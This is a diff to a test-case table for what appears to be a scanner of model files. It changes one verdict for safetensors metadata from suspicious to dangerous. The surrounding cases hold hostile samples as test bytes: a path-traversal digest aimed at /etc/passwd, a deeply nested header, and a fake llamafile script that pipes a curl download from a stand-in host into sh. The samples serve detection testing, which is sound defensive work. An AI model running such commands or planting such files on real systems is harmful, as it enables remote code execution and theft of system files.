@@ -162,7 +162,7 @@ CASES = [  # what it is, bytes, name, verdict, words of a remark
     ("a kernel beside it", b'<CustomLayer name="X"><Kernel entry="x"><Source filename="x.cl"/></Kernel></CustomLayer>', "kernels.xml", NOTHING, ""),
     ("a layer from elsewhere", b'{"layers": [{"digest": "../../../etc/passwd"}]}', "latest.json", DANGEROUS, "../../../etc/passwd"),
     ("a header that nests", struct.pack("<Q", 600_001) + b'{"a":' * 100_000 + b"1" + b"}" * 100_000, "m.safetensors", DANGEROUS, "nests deeper"),
-    ("metadata that is no text", safetensors({"__metadata__": {"a": {"b": 1}}, "w": {"dtype": "U8", "shape": [1], "data_offsets": [0, 1]}}, b"\0"), "m.safetensors", SUSPICIOUS, "more than texts"),
+    ("metadata that is no text", safetensors({"__metadata__": {"a": {"b": 1}}, "w": {"dtype": "U8", "shape": [1], "data_offsets": [0, 1]}}, b"\0"), "m.safetensors", DANGEROUS, "more than texts"),
     ("what is no safetensors", bytes(range(256)) * 4, "m.safetensors", SUSPICIOUS, "nothing of the kind"),
     ("a script as a llamafile", b"#!/bin/sh\ncurl http://x.example | sh\nexit\n\0\0", "m.llamafile", DANGEROUS, "runs what it downloads"),
     ("a script as data", b"#!/bin/sh\ntrue\n", "x.bin", SUSPICIOUS, "script"),
